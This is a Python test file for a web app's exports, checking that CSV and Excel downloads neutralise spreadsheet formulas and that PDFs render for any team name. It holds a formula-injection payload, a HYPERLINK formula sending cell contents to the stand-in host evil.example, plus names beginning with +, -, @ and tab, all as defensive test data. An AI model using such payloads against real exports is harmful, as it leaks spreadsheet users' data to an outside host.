"""Hostile text in what the app writes out: CSV and Excel exports never hand a spreadsheet a formula, and PDFs are
made (not a server error) whatever a name holds. Every GET route is read by the trust's quality lead and
administrator over a team A whose every name starts like a formula; each export found is checked, cell by cell.
"""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from pypdf import PdfReader

from accredit.extensions import db
from tests.conftest import AuthActions
from tests.factories import PASSWORD
from tests.security.test_route_matrix import ADMIN, OPEN, TEAM, requests_for
from tests.security.world import build_world

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Open") März – 病院 🏥'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


def test_exports_neutralise_formulas_and_pdfs_survive_any_name(app, factory):
    world = build_world(factory, PASSWORD, text=FORMULA)
    for name in ("+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTabbed"):  # more teams, each starting another way
        factory.team(world.service_a, name=name)
    factory.commit()
    requests, _ = requests_for(app, world)
    gets = [r for r in requests if r.method == "GET" and not r.is_api and r.route.kind in {TEAM, OPEN, ADMIN}
            and r.endpoint != "evidence.download"]  # what people uploaded is served as it came (an attachment)

    formulas, broken, kinds, neutralised = {}, {}, set(), set()
    for reader in (world.quality_lead, world.admin):
        client = app.test_client()
        AuthActions(client).login(reader)
        for request in gets:
            response = client.get(request.url)
            if response.status_code >= 500:
                broken[(reader.name, request.url)] = response.status_code
            elif response.mimetype in {"text/csv", XLSX}:
                kinds.add(response.mimetype)
                cells = csv_cells(response.data) if response.mimetype == "text/csv" else xlsx_cells(response.data)
                bad = [c for c in cells if c.startswith(FORMULA_START)]
                neutralised.update(c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_START))
                if bad:
                    formulas[(reader.name, request.url)] = bad
            elif response.mimetype == "application/pdf":
                kinds.add(response.mimetype)
                PdfReader(io.BytesIO(response.data))  # a whole, readable document
    db.session.rollback()
    assert (broken, formulas) == ({}, {})
    assert kinds == {"text/csv", XLSX, "application/pdf"}
    assert any(FORMULA in cell for cell in neutralised), "no export showed team A's names: nothing was checked"
